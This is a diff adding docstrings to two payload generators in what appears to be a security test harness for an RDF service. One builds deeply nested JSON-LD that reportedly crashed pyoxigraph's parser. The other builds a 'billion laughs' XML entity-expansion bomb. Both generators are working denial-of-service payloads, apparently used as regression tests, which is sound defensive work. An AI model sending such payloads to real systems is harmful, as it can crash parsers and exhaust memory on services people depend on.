@@ -223,6 +223,7 @@ class Attack:
 
 
 def deep_jsonld(depth: int = 5000) -> bytes:
+    """The JSON-LD of critical 1 (issue #13): pyoxigraph's parser crashed from ~3,000."""
     return (
         f'{{"@id":"{BASE}acteur/x","http://example.org/p":'
         + '{"http://example.org/p":' * depth
@@ -233,6 +234,7 @@ def deep_jsonld(depth: int = 5000) -> bytes:
 
 
 def billion_laughs(levels: int = 9) -> bytes:
+    """An RDF/XML document of under 1 KB whose entities expand to 10**levels * 20 bytes."""
     entities = '<!ENTITY a0 "lolololololololololo">' + "".join(
         f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, levels + 1)
     )
